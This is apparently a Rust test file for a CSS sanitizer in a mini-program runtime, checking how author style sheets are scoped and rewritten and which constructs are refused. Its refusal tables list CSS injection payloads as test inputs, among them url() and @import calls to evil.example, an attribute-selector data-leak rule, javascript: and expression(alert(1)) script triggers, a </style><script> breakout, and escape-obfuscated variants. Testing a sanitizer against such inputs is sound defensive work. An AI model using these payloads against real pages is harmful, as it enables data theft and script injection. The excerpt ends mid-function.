//! The language of style sheets: what goes in and what comes out, what is refused
//! and where, every way out of the page that is known for CSS, the limits, and that
//! whatever comes out is about the program's own elements.

use mprun_core::{
    manifest::ColorScheme,
    style::{
        COMPOUNDS_MAX, DEPTH_MAX, PARTS_MAX, RULES_MAX, SELECTORS_MAX, STYLE_BYTES_MAX, Style, VALUE_WORDS_MAX,
        declarations,
    },
};
use proptest::prelude::*;

fn css_in(source: &str, scheme: ColorScheme) -> String {
    let style = Style::parse(source).unwrap_or_else(|error| panic!("{error}\n{source}"));
    style.css(scheme, |path| (path == "a.svg").then_some("/x/a.svg"))
}

fn css(source: &str) -> String {
    css_in(source, ColorScheme::Auto)
}

// ---- What comes out ---------------------------------------------------------------

#[test]
fn what_goes_in_comes_out_scoped_and_small() {
    let cases = [
        ("", ""),
        (" /* nothing */ .a { } ", ""),
        (".a{color:red}", ".mp-page .p-a{color:red}"),
        (
            " .card > .title , .a.b:HOVER { color : RED ; margin: 0  auto; ; }",
            ".mp-page .p-card>.p-title,.mp-page .p-a.p-b:hover{color:RED;margin:0 auto}",
        ),
        (".a/* x */.b /* y */ .c{top:0}", ".mp-page .p-a.p-b .p-c{top:0}"),
        (".a + .b~.c{top:0}", ".mp-page .p-a+.p-b~.p-c{top:0}"),
        (
            ".list>.row:nth-child( 2N + 1 ):not( .a , :last-child )::after{top:0}",
            ".mp-page .p-list>.p-row:nth-child(2n+1):not(.p-a,:last-child)::after{top:0}",
        ),
        (".a:where(.b.c):is(:active){top:0}", ".mp-page .p-a:where(.p-b.p-c):is(:active){top:0}"),
        // Rules inside of others, where they stand.
        (
            ".a{color:red;&:hover{color:blue}.b{top:0}> .c{left:0}margin:0}",
            ".mp-page .p-a{color:red}.mp-page .p-a:hover{color:blue}.mp-page .p-a .p-b{top:0}\
             .mp-page .p-a>.p-c{left:0}.mp-page .p-a{margin:0}",
        ),
        (".a,.b{&.c,.d{top:0}}", ".mp-page .p-a.p-c,.mp-page .p-b.p-c,.mp-page .p-a .p-d,.mp-page .p-b .p-d{top:0}"),
        (".a{& > .b{& + &-x{top:0}}}", "refused"),
        (".a{& .b{&::before{content:\"\"}}}", ".mp-page .p-a .p-b::before{content:\"\"}"),
        // Conditions.
        (
            "@media screen and (min-width: 600px) , not (hover) {.a{top:0}}",
            "@media screen and (min-width:600px),not (hover){.mp-page .p-a{top:0}}",
        ),
        (
            ".a{top:0;@media (width >= 400px){left:0;.b{right:0}}}",
            ".mp-page .p-a{top:0}@media (width>=400px){.mp-page .p-a{left:0}.mp-page .p-a .p-b{right:0}}",
        ),
        ("@MEDIA (MIN-WIDTH:1EM){.a{COLOR:red}}", "@media (min-width:1em){.mp-page .p-a{color:red}}"),
        (
            "@media (prefers-color-scheme: dark){@media (orientation:portrait){.a{color:#FFF}}}",
            "@media (prefers-color-scheme:dark){@media (orientation:portrait){.mp-page .p-a{color:#fff}}}",
        ),
        // Animations.
        (
            "@keyframes spin{from{rotate:0deg}50.5% , TO{rotate:1turn;}} .a{animation:spin 1s steps(4,end) infinite}",
            "@keyframes p-spin{from{rotate:0deg}50.5%,to{rotate:1turn}}\
             .mp-page .p-a{animation:p-spin 1s steps(4,end) infinite}",
        ),
        (".a{animation-name:x}@keyframes x{}", ".mp-page .p-a{animation-name:p-x}@keyframes p-x{}"),
        // A length of ours.
        (
            ".a{width:20rpx;margin:-1.5rpx 0rpx;padding:calc(100% - 10RPX)}",
            ".mp-page .p-a{width:calc(20*var(--mp-rpx));margin:calc(-1.5*var(--mp-rpx)) 0px;\
             padding:calc(100% - calc(10*var(--mp-rpx)))}",
        ),
        (
            ".a{background:linear-gradient(to right,rgb(0 0 0 / 50%),#fff 20rpx)}",
            ".mp-page .p-a{background:linear-gradient(to right,rgb(0 0 0 / 50%),#fff calc(20*var(--mp-rpx)))}",
        ),
        (".a{transform:translate( -5rpx , 0 )}", ".mp-page .p-a{transform:translate(calc(-5*var(--mp-rpx)),0)}"),
        // Properties of the author's own, and of the host.
        (
            ".a{--brand:#ABC;--empty:;color:var(--brand);background:var( --x , var(--mp-surface) )}",
            ".mp-page .p-a{--p-brand:#abc;--p-empty:;color:var(--p-brand);background:var(--p-x,var(--mp-surface))}",
        ),
        (".a{transition:--brand .2s,color 0.2s ease}", ".mp-page .p-a{transition:--p-brand .2s,color .2s ease}"),
        (".a{--p-x:1;--mpx:2}", ".mp-page .p-a{--p-p-x:1;--p-mpx:2}"),
        (".a{padding:env( safe-area-inset-top , 0px )}", ".mp-page .p-a{padding:env(safe-area-inset-top,0px)}"),
        // Pictures.
        (
            ".a{background:url( \"asset:a.svg\" ) center / 50% no-repeat}",
            ".mp-page .p-a{background:url(\"/x/a.svg\") center / 50% no-repeat}",
        ),
        (
            ".a{mask:linear-gradient(#000,#000),URL(asset:a.svg)}",
            ".mp-page .p-a{mask:linear-gradient(#000,#000),url(\"/x/a.svg\")}",
        ),
        // Texts: nothing in them ends them, or an element that they might be put into.
        (".a::before{content:'\\201C </style>'}", ".mp-page .p-a::before{content:\"“\\3c /style>\"}"),
        (".a::before{content:\"a\\\"b\\\\c\\a\"}", ".mp-page .p-a::before{content:\"a\\\"b\\\\c\\a \"}"),
        (".a{font:12px/1.5 \"思源黑体\",serif}", ".mp-page .p-a{font:12px/1.5 \"思源黑体\",serif}"),
        // Numbers, words, lines.
        (".a{margin:0.50px -0.5em +2px}", ".mp-page .p-a{margin:.50px -.5em +2px}"),
        (".a{margin:1px/**/2px}", ".mp-page .p-a{margin:1px 2px}"),
        (
            ".a{display:-webkit-box;-webkit-line-clamp:2;POSITION:Absolute}",
            ".mp-page .p-a{display:-webkit-box;-webkit-line-clamp:2;position:absolute}",
        ),
        (
            ".a{grid-template:[top] \"a b\" 1fr / repeat( auto-fill,minmax(120rpx,1fr) )}",
            ".mp-page .p-a{grid-template:[top] \"a b\" 1fr / repeat(auto-fill,minmax(calc(120*var(--mp-rpx)),1fr))}",
        ),
        (".a{grid-area:1 / span 2}", ".mp-page .p-a{grid-area:1 / span 2}"),
        (
            ".a{color:light-dark(#000,color-mix(in srgb,red 20%,transparent))}",
            ".mp-page .p-a{color:light-dark(#000,color-mix(in srgb,red 20%,transparent))}",
        ),
    ];
    for (source, expected) in cases {
        match expected {
            "refused" => assert!(Style::parse(source).is_err(), "{source}"),
            _ => {
                assert_eq!(css(source), expected, "{source}");
                check_page(expected);
            }
        }
    }
}

#[test]
fn a_program_for_one_scheme_is_told_that_one() {
    let source = "@media (prefers-color-scheme:dark){.a{top:0}}@media not (prefers-color-scheme: LIGHT){.a{top:0}}";
    let expected = |dark: &str, light: &str| {
        format!("@media {dark}{{.mp-page .p-a{{top:0}}}}@media not {light}{{.mp-page .p-a{{top:0}}}}")
    };
    let auto = expected("(prefers-color-scheme:dark)", "(prefers-color-scheme:light)");
    assert_eq!(css_in(source, ColorScheme::Auto), auto);
    assert_eq!(css_in(source, ColorScheme::Dark), expected("(min-width:0)", "(max-width:0)"));
    assert_eq!(css_in(source, ColorScheme::Light), expected("(max-width:0)", "(min-width:0)"));
}

#[test]
fn a_picture_that_has_no_address_is_none() {
    let style = Style::parse(".a{background:url(asset:b.svg)}").unwrap();
    assert_eq!(style.css(ColorScheme::Auto, |_| None), ".mp-page .p-a{background:none}");
    assert_eq!(style.css(ColorScheme::Auto, |_| Some("/a\"b")), ".mp-page .p-a{background:url(\"/a\\\"b\")}");
}

#[test]
fn tools_see_each_declaration_with_its_place() {
    let found =
        declarations(".a {\n  color: red;\n  &:hover { --x: 1rpx }\n}\n@keyframes k { to { top: 0 } }").unwrap();
    let seen: Vec<_> =
        found.iter().map(|found| (found.line, found.column, found.property.as_str(), found.value.as_str())).collect();
    let expected = [(2, 3, "color", "red"), (3, 13, "--p-x", "calc(1*var(--mp-rpx))"), (5, 21, "top", "0")];
    assert_eq!(seen, expected);
}

#[test]
fn what_the_documentation_shows_is_accepted() {
    let text = include_str!("../../../../docs/styles.md");
    let blocks: Vec<_> = text.split("```css\n").skip(1).filter_map(|rest| rest.split("```").next()).collect();
    assert!(blocks.len() >= 5, "{}", blocks.len());
    for block in blocks {
        check_page(&css(block));
    }
}

// ---- What is refused ----------------------------------------------------------------

/// A sheet, and a part of what is said of it.
type Refused = (&'static str, &'static str);

/// Rules that load, share or reach what is not the program's.
const RULES: &[Refused] = &[
    ("@import \"http://evil.example/x.css\";", "`@import` is not available"),
    ("@import url(http://evil.example/x.css) screen;", "`@import` is not available"),
    ("@IMPORT 'x';", "`@IMPORT` is not available"),
    ("@\\69mport \"x\";", "can only stand in a text in quotes"),
    ("@\\000069 mport \"x\";", "can only stand in a text in quotes"),
    ("@im/**/port \"x\";", "`@im` is not available"),
    (".a{}@import \"x\";", "`@import` is not available"),
    ("@media all{@import \"x\";}", "`@import` is not available"),
    (".a{@import \"x\";}", "`@import` is not available"),
    ("@charset \"utf-7\";.a{top:0}", "`@charset` is not available"),
    ("@namespace svg url(http://www.w3.org/2000/svg);", "`@namespace` is not available"),
    ("@font-face{font-family:x;src:url(http://evil.example)}", "`@font-face` is not available"),
    ("@property --x{syntax:\"*\";inherits:true}", "`@property` is not available"),
    ("@layer a{.a{top:0}}", "`@layer` is not available"),
    ("@layer a,b;", "`@layer` is not available"),
    ("@supports (display:grid){.a{top:0}}", "`@supports` is not available"),
    ("@container (width > 1px){.a{top:0}}", "`@container` is not available"),
    ("@scope (.a){.b{top:0}}", "`@scope` is not available"),
    ("@page{margin:0}", "`@page` is not available"),
    ("@counter-style x{symbols:url(http://evil.example)}", "`@counter-style` is not available"),
    ("@starting-style{.a{top:0}}", "`@starting-style` is not available"),
    ("@view-transition{navigation:auto}", "`@view-transition` is not available"),
    ("@position-try --x{top:0}", "`@position-try` is not available"),
    ("@function --f(){result:1}", "`@function` is not available"),
    ("@-moz-document url(http://x){.a{top:0}}", "`@-moz-document` is not available"),
    ("@-webkit-keyframes x{from{top:0}}", "`@-webkit-keyframes` is not available"),
    ("@{.a{top:0}}", "cannot stand in a selector"),
    (".a{@keyframes x{}}", "stands outside of other rules"),
    ("@keyframes none{}", "expected a name such as"),
    ("@keyframes \"x\"{}", "expected a name such as"),
    ("@keyframes x y{}", "expected a name such as"),
    ("@keyframes x;", "expected `{` after the name"),
    ("@keyframes x{50{top:0}}", "expected `from`, `to` or a percentage"),
    ("@keyframes x{101%{top:0}}", "expected `from`, `to` or a percentage"),
    ("@keyframes x{.b{top:0}}", "expected `from`, `to` or a percentage"),
    ("@keyframes x{from{.b{top:0}}}", "expected a declaration"),
    ("@keyframes x{from{position:fixed}}", "expected one of"),
    ("@keyframes x{from{top:0!important}}", "`!important` is not for programs"),
    ("@media{.a{top:0}}", "expected a condition"),
    ("@media screen;", "expected `{` after the condition"),
    ("@media (){.a{top:0}}", "expected a condition in these brackets"),
    ("@media (min-width:var(--x)){.a{top:0}}", "cannot stand in `@media`"),
    ("@media (min-width:calc(1px)){.a{top:0}}", "cannot stand in `@media`"),
    ("@media (min-width:1e3px){.a{top:0}}", "cannot stand in `@media`"),
    ("@media (min-width:300rpx){.a{top:0}}", "`rpx` is measured by the page"),
    ("@media (-webkit-min-device-pixel-ratio:2){.a{top:0}}", "cannot stand in `@media`"),
    ("@media url(x){.a{top:0}}", "cannot stand in `@media`"),
    ("@media \"x\"{.a{top:0}}", "cannot stand in `@media`"),
    ("@media screen and(hover){.a{top:0}}", "expected a blank between `and` and `(`"),
    ("@media tv{.a{top:0}}", "cannot stand in `@media`"),
];

/// Selectors of what is not the program's own.
const SELECTORS: &[Refused] = &[
    (":root{--mp-ink:red}", "`:root` is not available"),
    ("html{top:0}", "not selected by their kind"),
    ("body{top:0}", "not selected by their kind"),
    ("*{top:0}", "not all elements can be selected"),
    (".a *{top:0}", "not all elements can be selected"),
    (".a{*zoom:1}", "not all elements can be selected"),
    ("#mp{top:0}", "not selected by an id"),
    (".a#mp{top:0}", "not selected by an id"),
    ("[href]{top:0}", "not selected by their attributes"),
    (".a[value^=\"1\"]{background:url(http://evil.example/1)}", "has no place in the style of a program"),
    (".a[value=\"1\"]{top:0}", "not selected by their attributes"),
    (".a:has(.b){top:0}", "`:has(` is not available"),
    (".a:visited{top:0}", "`:visited` is not available"),
    (".a:target{top:0}", "`:target` is not available"),
    (".a:host(.b){top:0}", "`:host(` is not available"),
    (":host{top:0}", "`:host` is not available"),
    (":scope{top:0}", "`:scope` is not available"),
    (".a:lang(en){top:0}", "`:lang(` is not available"),
    (".a:popover-open{top:0}", "`:popover-open` is not available"),
    (".a:autofill{top:0}", "`:autofill` is not available"),
    (".a::part(x){top:0}", "after `::` only"),
    (".a::backdrop{top:0}", "after `::` only"),
    ("::backdrop{top:0}", "after `::` only"),
    (".a::selection{top:0}", "after `::` only"),
    (".a::first-line{top:0}", "after `::` only"),
    (".a::-webkit-scrollbar{top:0}", "after `::` only"),
    (".a::view-transition-old(root){top:0}", "after `::` only"),
    (".a:before{top:0}", "`:before` is not available"),
    (".a::before:hover{top:0}", "nothing can follow"),
    (".a::before .b{top:0}", "nothing can follow"),
    (".a::before{.b{top:0}}", "nothing can stand inside of a rule for"),
    (".a:not(::before){top:0}", "is not available"),
    (".mp-bar{top:0}", "expected a class of the program's own"),
    (".a,.mp-bar{top:0}", "expected a class of the program's own"),
    (".a .mp-bar{top:0}", "expected a class of the program's own"),
    (".\\6d p-bar{top:0}", "can only stand in a text in quotes"),
    (".m\\70-bar{top:0}", "can only stand in a text in quotes"),
    (".\\.mp-bar{top:0}", "can only stand in a text in quotes"),
    (".MP-bar{top:0}", "expected a class of the program's own"),
    (".a_b{top:0}", "expected a class of the program's own"),
    (".abcdefghijklmnopqrstuvwxyz0123456{top:0}", "expected a class of the program's own"),
    (".ａ{top:0}", "only ASCII can stand outside of quotes"),
    (".1a{top:0}", "cannot stand in a selector"),
    (". a{top:0}", "expected the name of a class after `.`"),
    (".a:is(body){top:0}", "not selected by their kind"),
    (".a:not(#mp){top:0}", "not selected by an id"),
    (".a:is(.mp-bar){top:0}", "expected a class of the program's own"),
    (".a:is(.b .c){top:0}", "in these brackets one element is described"),
    (".a:is(){top:0}", "expected a class here"),
    (".a:is(.b,){top:0}", "expected a class here"),
    (".a:nth-child(2 of .mp-bar){top:0}", "in `:nth-child()`"),
    (".a:nth-child(99999n){top:0}", "in `:nth-child()`"),
    (".a:nth-child(){top:0}", "in `:nth-child()`"),
    (".a:{top:0}", "expected a name after `:`"),
    (".a > :first-child{top:0}", "each part of a selector names one"),
    (":hover{top:0}", "each part of a selector names one"),
    (".a{:hover{top:0}}", "each part of a selector names one"),
    ("> .a{top:0}", "each part of a selector names one"),
    (".a >{top:0}", "each part of a selector names one"),
    (".a > > .b{top:0}", "each part of a selector names one"),
    (".a,,.b{top:0}", "each part of a selector names one"),
    (".a,{top:0}", "each part of a selector names one"),
    ("{top:0}", "each part of a selector names one"),
    ("& .a{top:0}", "stands at the beginning of a rule inside of another"),
    (".a{.b &{top:0}}", "stands at the beginning of a rule inside of another"),
    (".a{& .b &{top:0}}", "stands at the beginning of a rule inside of another"),
    (".a{body &{top:0}}", "expected `:` after `body`"),
    (".a || .b{top:0}", "cannot stand in a selector"),
    ("svg|a{top:0}", "not selected by their kind"),
    (".a/deep/.b{top:0}", "cannot stand in a selector"),
    (".a>>>.b{top:0}", "each part of a selector names one"),
    (".a(.b){top:0}", "expected the name of a class after `.`"),
    ("</style><script>alert(1)</script>", "cannot stand in a selector"),
    ("<!-- .a{top:0} -->", "has no place in the style of a program"),
    (".a{top:0}-->", "has no place in the style of a program"),
    ("// a\n.a{top:0}", "cannot stand in a selector"),
    (";.a{top:0}", "expected a rule, got `;`"),
    (".a", "expected `{` after the selector"),
    (".a;.b{top:0}", "expected `{` after the selector"),
];

/// Declarations that load or run something, leave the page, or fool somebody.
const DECLARATIONS: &[Refused] = &[
    // Addresses.
    ("background:url(http://evil.example/x.png)", "a picture comes from the bundle"),
    ("background:url(\"https://evil.example/x\")", "a picture comes from the bundle"),
    ("background:url(//evil.example/x)", "a picture comes from the bundle"),
    ("background:url(/_asset/x.svg)", "a picture comes from the bundle"),
    ("background:URL(HTTP://EVIL.EXAMPLE)", "a picture comes from the bundle"),
    ("background:url()", "a picture comes from the bundle"),
    ("background:url(\"javascript:alert(1)\")", "a picture comes from the bundle"),
    ("background:url(javascript:alert(1))", "this address cannot be read"),
    ("background:url(data:image/svg+xml;base64,AAAA)", "a picture comes from the bundle"),
    ("background:url(blob:x)", "a picture comes from the bundle"),
    ("background:url(#x)", "a picture comes from the bundle"),
    ("background:url(\"asset:../x.svg\")", "stays in the assets folder"),
    ("background:url(\"asset:/x.svg\")", "relative to the assets folder"),
    ("background:url(\"asset://evil.example/x.svg\")", "relative to the assets folder"),
    ("background:url(\"asset:x.html\")", "expected an asset that ends in"),
    ("background:url(\"asset:a.svg?x\")", "letters, digits"),
    ("background:url(\"Asset:a.svg\")", "a picture comes from the bundle"),
    ("background:url(\"asset:a.svg\" x)", "expected a text in quotes"),
    ("background:url(var(--x))", "this address cannot be read"),
    ("background:\\75rl(http://evil.example)", "can only stand in a text in quotes"),
    ("background:u\\72l(\"http://evil.example\")", "can only stand in a text in quotes"),
    ("background:\\000075 rl(x)", "can only stand in a text in quotes"),
    ("background:ur/**/l(http)", "`l(` in `background`: no function"),
    ("background:url(asset:a.svg\\)", "can only stand in a text in quotes"),
    ("background:image-set(\"http://evil.example\" 1x)", "no function"),
    ("background:-webkit-image-set(\"a\" 1x)", "no function"),
    ("background:image(\"http://evil.example\")", "no function"),
    ("background:src(\"http://evil.example\")", "no function"),
    ("background:cross-fade(url(\"asset:a.svg\"),red)", "no function"),
    ("background:element(#mp)", "no function"),
    ("background:-moz-element(#mp)", "no function"),
    ("background:paint(x)", "no function"),
    ("background:if(style(--x:1):url(http://evil.example))", "no function"),
    ("background:var(--x,url(http://evil.example))", "a picture comes from the bundle"),
    ("--x:url(http://evil.example)", "a picture can stand in"),
    ("--x:url(\"asset:a.svg\")", "a picture can stand in"),
    ("--x:image-set(\"http://evil.example\" 1x)", "no function"),
    ("color:url(\"asset:a.svg\")", "a picture can stand in"),
    ("content:url(\"asset:a.svg\")", "a picture can stand in"),
    ("filter:url(#x)", "a picture can stand in"),
    ("clip-path:url(\"asset:a.svg\")", "a picture can stand in"),
    ("mask:url(#x)", "a picture comes from the bundle"),
    ("list-style-image:url(x)", "a picture comes from the bundle"),
    ("cursor:url(\"asset:a.svg\"),auto", "expected one of"),
    ("border-image:url(\"asset:a.svg\") 1", "no property that a program may set"),
    ("src:url(http://evil.example)", "no property that a program may set"),
    ("shape-outside:url(http://evil.example)", "no property that a program may set"),
    ("offset-path:url(http://evil.example)", "no property that a program may set"),
    // What once ran something.
    ("width:expression(alert(1))", "no function"),
    ("width:EXPRESSION(alert(1))", "no function"),
    ("width:exp/**/ression(alert(1))", "no function"),
    ("width:expr\\65ssion(alert(1))", "can only stand in a text in quotes"),
    ("behavior:url(x.htc)", "no property that a program may set"),
    ("b\\65havior:url(x.htc)", "can only stand in a text in quotes"),
    ("-moz-binding:url(http://evil.example#x)", "no property that a program may set"),
    ("filter:progid:DXImageTransform.Microsoft.Alpha(opacity=50)", "this is no value"),
    ("filter:alpha(opacity=50)", "no function"),
    ("-ms-behavior:url(x)", "no property that a program may set"),
    ("color:red\\9", "can only stand in a text in quotes"),
    ("_color:red", "no property that a program may set"),
    // Ways out of the page.
    ("position:fixed", "expected one of `absolute`, `relative`, `static`"),
    ("position:FIXED", "expected one of"),
    ("position:sticky", "expected one of"),
    ("position:-webkit-sticky", "expected one of"),
    ("position:inherit", "expected one of"),
    ("position:revert", "expected one of"),
    ("position:var(--x)", "expected one of"),
    ("position:fi/**/xed", "expected one of"),
    ("position:f\\69xed", "can only stand in a text in quotes"),
    ("pos\\69tion:fixed", "can only stand in a text in quotes"),
    ("position:absolute,fixed", "expected one of"),
    ("display:var(--x)", "expected one of"),
    ("cursor:none", "expected one of"),
    ("overlay:auto", "no property that a program may set"),
    ("all:initial", "no property that a program may set"),
    ("outline:none", "no property that a program may set"),
    ("direction:rtl", "no property that a program may set"),
    ("unicode-bidi:bidi-override", "no property that a program may set"),
    ("zoom:9", "no property that a program may set"),
    ("will-change:transform", "no property that a program may set"),
    ("contain:none", "no property that a program may set"),
    ("container:x / size", "no property that a program may set"),
    ("view-transition-name:root", "no property that a program may set"),
    ("anchor-name:--x", "no property that a program may set"),
    ("counter-reset:mp", "no property that a program may set"),
    ("appearance:none", "no property that a program may set"),
    ("-webkit-appearance:none", "no property that a program may set"),
    ("top:anchor(bottom)", "no function"),
    ("color:red!important", "`!important` is not for programs"),
    ("color:red ! IMPORTANT", "`!important` is not for programs"),
    ("--x:1!important", "`!important` is not for programs"),
    ("--mp-ink:red", "is the host's"),
    ("--mp-:red", "is the host's"),
    ("--m\\70-ink:red", "can only stand in a text in quotes"),
    ("transition:--mp-ink 1s", "is the host's"),
    ("--:red", "expected a name after `--`"),
    ("animation:mp-toast 1s", "no `@keyframes` of this name"),
    ("animation-name:other", "no `@keyframes` of this name"),
    // Reading the page.
    ("content:attr(value)", "no function"),
    ("width:attr(value px)", "no function"),
    ("content:counter(x)", "no function"),
    ("--x:attr(value)", "no function"),
    ("color:var(mp-ink)", "expected a property such as"),
    ("color:var()", "expected a property such as"),
    ("color:var(--x y)", "expected `,` or `)`"),
    ("padding:env(x)", "expected one of `safe-area-inset-bottom`"),
    // Much work.
    ("width:1e9px", "expected a number from -100000 to 100000"),
    ("width:99999999999px", "expected a number from"),
    ("margin:-100001px", "expected a number from"),
    ("width:100001%", "expected a number from"),
    ("z-index:2147483647", "expected a number from"),
    ("opacity:0.00000000000000001", "expected a number from"),
    ("grid-template-columns:repeat(100000,1px)", "expected 1 to 100"),
    ("grid-template-columns:repeat(var(--x),1px)", "expected 1 to 100"),
    ("--x:repeat(100000,1px)", "expected 1 to 100"),
    ("grid-row:1 / 5000", "expected at most 1000"),
    ("column-count:calc(1000*1000)", "expected no function here"),
    ("grid-row:var(--x)", "expected no function here"),
    ("--x:var(--y) var(--y)", "can read one other"),
    ("--x:var(--y,var(--z))", "can read one other"),
    // What is no value.
    ("color:\"red\"", "expected no text in quotes here"),
    ("color:#ggg", "hexadecimal"),
    ("color:#12345", "hexadecimal"),
    ("width:10foo", "`foo` is no unit"),
    ("width:10rpxx", "`rpxx` is no unit"),
    ("color:red background:blue", "this is no value"),
    ("background:{}", "this is no value"),
    ("background:[a]", "this is no value"),
    ("color:red@media", "this is no value"),
    ("width:1px<2px", "this is no value"),
    ("color", "expected `:` after `color`"),
    ("color red", "expected `:` after `color`"),
    ("color:", "expected a value for `color`"),
    ("color:  ", "expected a value for `color`"),
    ("font-family:微软雅黑", "only ASCII can stand outside of quotes"),
    ("content:\"a\nb\"", "this text ends at the end of its line"),
];

/// What cannot be read at all.
const WORDS: &[Refused] = &[
    ("\0.a{top:0}", "the control character U+0000 cannot stand here"),
    (".a{color:red\u{c}}", "the control character U+000C cannot stand here"),
    (".a{content:\"\u{1b}[2J\"}", "the control character U+001B cannot stand here"),
    ("\u{feff}.a{top:0}", "only ASCII can stand outside of quotes"),
    (".a{top:0} /* x", "this comment is never closed"),
    ("/*/", "this comment is never closed"),
    (".a{top:0", "`{` is never closed"),
    (".a{content:\"x}", "`{` is never closed"),
    (".a{top:calc(1px}", "`}` closes nothing"),
    (".a{top:0}}", "`}` closes nothing"),
    (".a{top:0]}", "`]` closes nothing"),
    (".a~=.b{top:0}", "has no place in the style of a program"),
];

#[test]
fn what_leads_out_of_the_page_is_refused() {
    let declarations: Vec<_> = DECLARATIONS.iter().map(|(text, said)| (format!(".a{{top:0;{text}}}"), *said)).collect();
    let others = [RULES, SELECTORS, WORDS].into_iter().flatten().map(|(text, said)| ((*text).to_owned(), *said));
    let mut count = 0;
    for (source, said) in others.chain(declarations) {
        match Style::parse(&source) {
            Ok(style) => panic!("accepted: {source}\n{}", style.css(ColorScheme::Auto, |_| None)),
            Err(error) => assert!(error.sentence.contains(said), "expected `{said}` of {source}: {error}"),
        }
        count += 1;
    }
    assert!(count > 250, "{count}");
}

/// The declarations are refused for what they say, and not for where they stand.
#[test]
fn the_test_of_declarations_is_not_blind() {
    for good in ["color:red", "background:url(\"asset:a.svg\")", "position:absolute", "--x:var(--y)"] {
        assert!(Style::parse(&format!(".a{{top:0;{good}}}")).is_ok(), "{good}");
    }
}

#[test]
fn errors_say_where_and_what_to_do() {
    for (source, place, hint) in [
        (".a {\n  colour: red;\n}", (2, 3), Some("did you mean `color`?")),
        (
            ".a {}\r\n.b { outline: 0 }",
            (2, 6),
            Some("the ring around what has the focus is the host's: everybody has to find it"),
        ),
        (".a { -webkit-filter: none }", (1, 6), Some("a property needs no vendor's prefix in front")),
        ("/* 咖啡 */ .a { color: red\n top: 0 }", (2, 5), Some("is a `;` missing before it?")),
        (".a { color: #12 }", (1, 13), None),
        ("@import 'a';", (1, 1), Some("put everything into app.css")),
        (".a { background: url(x.png) }", (1, 18), Some("put it into assets/ and write url(\"asset:cup.svg\")")),
        ("\n\n  body { }", (3, 3), Some("give the element a class in the view, and write `.name` here")),
        (
            ".a { b { } }",
            (1, 8),
            Some("a rule inside of another begins with `&` or `.`; a declaration is `color: red;`"),
        ),
    ] {
        let error = Style::parse(source).unwrap_err();
        assert_eq!((error.line, error.column), place, "{source}: {error}");
        assert_eq!(error.hint.as_deref(), hint, "{source}: {error}");
    }
}

// ---- Limits -------------------------------------------------------------------------

/// Exactly as much as is allowed, and one more.
fn limit(most: &str, more: &str, said: &str) {
    assert!(Style::parse(most).is_ok(), "{said}: {}", Style::parse(most).unwrap_err());
    let error = Style::parse(more).unwrap_err();
    assert!(error.sentence.contains(said), "{said}: {error}");
}

#[test]
fn there_is_an_end_to_everything() {
    let sized = |bytes: usize| format!(".a{{top:0}}{}", " ".repeat(bytes - 9));
    limit(&sized(STYLE_BYTES_MAX), &sized(STYLE_BYTES_MAX + 1), "at most 65536 bytes, got 65537");

    let rules = |count: usize| ".a{top:0}".repeat(count);
    limit(&rules(RULES_MAX), &rules(RULES_MAX + 1), "at most 2000 rules");
    let moments = |count: usize| format!("@keyframes x{{{}}}", "to{}".repeat(count));
    limit(&moments(RULES_MAX - 1), &moments(RULES_MAX), "at most 2000 rules");

    let brackets = |depth: usize| format!(".a{{width:{}1px{}}}", "(".repeat(depth - 1), ")".repeat(depth - 1));
    limit(&brackets(DEPTH_MAX), &brackets(DEPTH_MAX + 1), "at most 8 brackets inside each other");
    let nested = |depth: usize| format!("{}top:0{}", ".a{".repeat(depth), "}".repeat(depth));
    limit(&nested(DEPTH_MAX), &nested(DEPTH_MAX + 1), "at most 8 brackets inside each other");

    let compounds = |count: usize| format!("{}{{top:0}}", vec![".a"; count].join(" > "));
    limit(&compounds(COMPOUNDS_MAX), &compounds(COMPOUNDS_MAX + 1), "at most 16 elements");
    let parts = |count: usize| format!("{}{{top:0}}", ".a".repeat(count));
    limit(&parts(PARTS_MAX), &parts(PARTS_MAX + 1), "with 32 classes and states together, got 1 with 33");
    let unfolded =
        |count: usize| format!("{}{{{}{{top:0}}}}", [".a .a"; 2].join(","), vec![".b .b .b"; count].join(","));
    limit(
        &unfolded(2),
        &format!(".a .a .a .a .a .a .a .a .a{{{}{{top:0}}}}", [".b"; 8].join(" ")),
        "at most 16 elements",
    );

    let selectors = |count: usize| format!(".a,.b{{{}{{top:0}}}}", vec![".c"; count].join(","));
    limit(&selectors(SELECTORS_MAX / 2 - 1), &selectors(SELECTORS_MAX / 2), "at most 4000 selectors");
    let list = |count: usize| vec![".a"; count].join(",");
    let exploding = format!("{0}{{{0}{{{0}{{{0}{{top:0}}}}}}}}", list(50));
    assert!(Style::parse(&exploding).unwrap_err().sentence.contains("at most 4000 selectors"));
    // The same selectors for each of many rules inside of them.
    let repeated = format!("{}{{{}}}", list(1_000), "&{top:0}".repeat(10));
    assert!(Style::parse(&repeated).unwrap_err().sentence.contains("at most 4000 selectors"));
    let unwritten = format!("{}{{{}}}", list(1_000), "&{}".repeat(10));
    assert!(Style::parse(&unwritten).unwrap_err().sentence.contains("at most 4000 selectors"));
    let interrupted = format!("{}{{{}}}", list(1_000), "top:0;@media all{top:0}".repeat(10));
    assert!(Style::parse(&interrupted).unwrap_err().sentence.contains("at most 4000 selectors"));
    let long =
        format!("{}{{{}}}", vec![format!(".{}", "a".repeat(32)).repeat(15); 50].join(","), "&{top:0}".repeat(40));
    assert!(Style::parse(&long).unwrap_err().sentence.contains("at most 524288 bytes"));

    let words = |count: usize| format!(".a{{margin:{}}}", "0 ".repeat(count));
    limit(&words(VALUE_WORDS_MAX), &words(VALUE_WORDS_MAX + 1), "at most 512 words");
    let own = |bytes: usize| format!(".a{{--{}:0}}", "x".repeat(bytes - 2));
    limit(&own(64), &own(65), "at most 64 bytes");
    limit(".a{width:100000px}", ".a{width:100000.5px}", "expected a number from -100000 to 100000");
    limit(".a{order:1000}", ".a{grid-row:1001}", "expected at most 1000");
}

#[test]
fn work_grows_with_the_sheet() {
    // Each of these makes parsers slow that look at something again and again.
    for part in ["(", "{", "[", ".a:not(", "calc(1px - ", "rgb(from ", "@media(", "url(", "\"", "/*", "\\", "--", ".a,"]
    {
        let _ = Style::parse(&part.repeat(STYLE_BYTES_MAX / part.len()));
        let _ = Style::parse(&format!(".a{{width:{}", part.repeat(60_000 / part.len())));
    }
}

// ---- Whatever comes in ----------------------------------------------------------------

/// The blocks of minified CSS: what stands before each, and what is in it.
fn blocks(css: &str) -> Vec<(&str, &str)> {
    let (mut found, mut head_at, mut body_at, mut depth) = (Vec::new(), 0, 0, 0_usize);
    let (mut is_quoted, mut is_escaped) = (false, false);
    for (at, c) in css.char_indices() {
        match c {
            _ if is_escaped => is_escaped = false,
